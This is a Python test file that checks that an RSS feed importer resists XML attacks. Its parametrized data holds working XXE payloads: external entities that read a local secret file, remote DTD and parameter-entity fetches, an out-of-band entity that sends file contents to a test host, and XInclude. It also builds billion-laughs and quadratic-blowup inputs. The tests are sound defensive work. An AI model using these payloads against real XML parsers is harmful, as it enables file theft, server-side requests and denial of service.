"""A feed reads no file, asks no host and takes no memory but its own, whatever its XML declares."""

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pytest

from publisher.adapters import feeds
from publisher.adapters.failures import CommandError
from publisher.core.feed_entries import Importing
from services.ingest.core.faults import Rejection
from tests.attack.hosts import Host
from tests.builders import NOON

SECRET: Final = "this-is-in-a-file"  # noqa: S105 - what must not be found
LARGEST_ANSWER: Final = 1_000_000
LONGEST_S: Final = 10.0
FEED: Final = """<?xml version="1.0"?>{}<rss version="2.0"><channel><title>t</title><link>https://a.example/</link>
<item><title>题目{}</title><link>https://a.example/1</link><description>一句话{}。</description></item></channel></rss>"""


@pytest.fixture
def host() -> Iterator[Host]:
    """Give a host that nobody may ask."""
    with Host() as made:
        yield made


def laughs(levels: int = 12) -> str:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
    return f'<!DOCTYPE r [<!ENTITY l0 "lol">{lines}]>'


def quadratic() -> str:
    return f'<!DOCTYPE r [<!ENTITY a "{"x" * 50_000}">]>'


def read(path: Path, text: str) -> str:
    """Give all that an import makes of a feed in a file, or why it makes nothing."""
    path.write_text(text)
    try:
        found = feeds.inputs(str(path), feeds.load(str(path)), Importing("entities", NOON))
        return "".join(
            one.value.detail if isinstance(one.value, Rejection) else json.dumps(json.loads(one.value))
            for one in found
        )
    except CommandError as error:
        return str(error)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file://{file}">]>',
        '<!DOCTYPE r [<!ENTITY x SYSTEM "{file}">]>',
        '<!DOCTYPE r [<!ENTITY x SYSTEM "{host}/x">]>',
        '<!DOCTYPE r SYSTEM "{host}/dtd">',
        '<!DOCTYPE r PUBLIC "-//x//y" "{host}/dtd">',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "{host}/p"> %p;]>',
        '<!DOCTYPE r [<!ENTITY % f SYSTEM "file://{file}">'
        "<!ENTITY % e \"<!ENTITY x SYSTEM '{host}/?%f;'>\">%e;]>",
        '<?xml-stylesheet href="{host}/s" type="text/xsl"?>',
        '<!DOCTYPE r [<!ATTLIST rss xmlns:xi CDATA #FIXED "http://www.w3.org/2001/XInclude">]>',
    ],
)
def test_no_file_is_read_and_nobody_is_asked(tmp_path: Path, host: Host, doctype: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    declared = doctype.replace("{file}", str(secret)).replace("{host}", host.url)
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}" parse="text"/>'
    for inside in ("&x;", include):
        found = read(tmp_path / "feed.xml", FEED.format(declared, inside, inside))
        assert SECRET not in found
    assert host.asked == []


@pytest.mark.parametrize(
    ("doctype", "inside"),
    [(laughs(), "&l11;"), (quadratic(), "&a;" * 5000), ("", "<b>" * 3_000)],
    ids=["billion laughs", "quadratic", "deep"],
)
def test_no_feed_grows(tmp_path: Path, doctype: str, inside: str) -> None:
    began = time.monotonic()
    found = read(tmp_path / "feed.xml", FEED.format(doctype, inside, inside))
    assert len(found) < LARGEST_ANSWER
    assert time.monotonic() - began < LONGEST_S
